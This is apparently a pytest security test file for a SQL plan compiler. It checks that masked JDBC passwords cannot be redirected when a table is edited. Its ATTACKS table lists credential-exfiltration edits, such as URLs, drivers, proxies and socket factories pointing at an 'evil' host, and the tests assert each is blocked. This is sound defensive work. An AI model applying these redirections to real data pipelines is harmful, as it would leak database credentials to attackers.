"""Secrets of the version in force go where they went before, and nowhere else."""

from __future__ import annotations

from typing import Any

import pytest

from compiled_plan.plans.errors import CompiledPlanError
from compiled_plan.service.workers.tasks import compile_, read

pytestmark = pytest.mark.attack

JDBC = "'connector' = 'jdbc', 'url' = 'jdbc:postgresql://db/a', 'table-name' = 't', 'username' = 'u', 'password' = '{}'"
ORDERS = f"CREATE TABLE orders (id INT, a STRING) WITH ({JDBC});\n"
SINK = "CREATE TABLE sink (id INT, a STRING) WITH ('connector' = 'print');\n"
INSERT = "INSERT INTO sink SELECT id, a FROM orders;"
PASSWORD = "ge'heim"
KNOWN = (ORDERS + SINK + INSERT).replace("{}", "ge''heim")
SHOWN = (ORDERS + SINK + INSERT).replace("{}", "******")


def compiled(text: str, known: str = KNOWN) -> dict[str, Any]:
    old = compile_(known)["plan"]
    found: dict[str, Any] = compile_(text, old=old, known=known)
    return found


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("", ""),
        ("SELECT id, a", "SELECT id, UPPER(a)"),
        ("'table-name' = 't'", "'table-name' = 's', 'scan.fetch-size' = '7'"),
        ("'password' = '******'", "'password' /* as before */\n = '******'"),
        ("FROM orders", "FROM orders /*+ OPTIONS('scan.fetch-size' = '7') */"),
        ("INSERT", "CREATE TABLE more WITH ('table-name' = 'm') LIKE orders; INSERT"),
        ("SELECT id, a", "SELECT id, CONCAT(a, '******')"),
    ],
)
def test_a_secret_is_kept_where_it_was(old: str, new: str) -> None:
    found = compiled(SHOWN.replace(old, new))
    assert "'password' = 'ge''heim'" in found["program"]
    assert f'"password" : "{PASSWORD}"' in found["plan"]
    assert "******'" not in found["program"].replace("CONCAT(a, '******')", "")


#: How an editor tries to read the secret of `orders`, or to have it sent to a host of their own.
ATTACKS = {
    "a literal": ("SELECT id, a", "SELECT id, CONCAT(a, 'password', '******')"),
    "another url": ("db/a", "evil/a"),
    "another port": ("db/a", "db:6666/a"),
    "another connector": ("'jdbc'", "'spark', 'provider' = 'x'"),
    "another driver": ("'username'", "'driver' = 'evil.Driver', 'username'"),
    "a further parameter": ("db/a", "db/a?socketFactory=evil"),
    "an unknown option": ("'username'", "'proxy' = 'evil', 'username'"),
    "another table": ("TABLE orders", "TABLE other"),
    "another key": ("'table-name' = 't'", "'table-name' = '******'"),
    "a hint": ("FROM orders", "FROM orders /*+ OPTIONS('url' = 'jdbc:postgresql://evil/a') */"),
    "LIKE": (
        INSERT,
        "CREATE TABLE more WITH ('url' = 'jdbc:postgresql://evil/a') LIKE orders (OVERWRITING OPTIONS);"
        "INSERT INTO sink SELECT id, a FROM more;",
    ),
    "AS": (INSERT, f"CREATE TABLE more WITH ({JDBC.format('******')}) AS SELECT id, a FROM orders;"),
    "a setting": (INSERT, f"SET 'some.password' = '******'; {INSERT}"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_editor_does_not_read_a_secret_of_the_version_in_force(name: str) -> None:
    old, new = ATTACKS[name]
    text = SHOWN.replace(old, new)
    assert text != SHOWN
    try:
        found = compiled(text)
    except CompiledPlanError as fault:
        assert "heim" not in fault.render()
        return
    # Else the literal is taken for what it is.
    assert name in ("a literal", "a setting")
    assert found["program"].count("heim") == 1


@pytest.mark.parametrize("name", ["another url", "an unknown option", "another table", "a hint", "LIKE", "another key"])
def test_a_secret_that_would_go_elsewhere_has_to_be_typed_anew(name: str) -> None:
    with pytest.raises(CompiledPlanError, match="is masked here") as raised:
        compiled(SHOWN.replace(*ATTACKS[name]))
    assert "write the" in raised.value.remedy


def test_a_part_of_a_url_is_kept_and_goes_to_its_host_alone() -> None:
    known = KNOWN.replace("//db/a", "//u:tief@db/a")
    shown = SHOWN.replace("//db/a", "//u:******@db/a")
    assert "//u:tief@db/a" in compiled(shown, known)["program"]
    with pytest.raises(CompiledPlanError, match="is masked here"):
        compiled(shown.replace("@db", "@evil"), known)


def test_errors_and_warnings_show_no_secret_that_was_filled_in() -> None:
    for text in (SHOWN.replace("SELECT id, a", "SELECT id, b"), SHOWN.replace(") WITH", ", id INT) WITH")):
        with pytest.raises(CompiledPlanError) as raised:
            compiled(text)
        assert "heim" not in raised.value.render()


def test_nothing_is_filled_in_before_the_first_version() -> None:
    with pytest.raises(CompiledPlanError, match="'password' is masked here"):
        compile_(SHOWN)


@pytest.mark.parametrize("value", ["******", "jdbc:postgresql://u:******@db/a"])
def test_a_plan_as_it_is_shown_is_no_plan_to_run(value: str) -> None:
    plan: str = compile_(KNOWN.replace("jdbc:postgresql://db/a", "jdbc:postgresql://u:tief@db/a"))["plan"]
    assert read(plan)["operators"] > 0
    for secret in ("jdbc:postgresql://u:tief@db/a", PASSWORD):
        with pytest.raises(CompiledPlanError, match="is masked in this plan"):
            read(plan.replace(secret, value))


def test_a_secret_of_one_table_does_not_go_where_that_of_another_goes() -> None:
    other = JDBC.replace("db/a", "other/a").format("anderes")
    known = KNOWN.replace(INSERT, f"CREATE TABLE more (id INT) WITH ({other}); {INSERT}")
    more = JDBC.replace("db/a", "other/a").replace(", 'password' = '{}'", "")
    text = SHOWN.replace(INSERT, f"CREATE TABLE more WITH ({more}) LIKE orders (OVERWRITING OPTIONS); {INSERT}")
    with pytest.raises(CompiledPlanError, match="is masked here"):
        compiled(text.replace("FROM orders", "FROM more"), known)
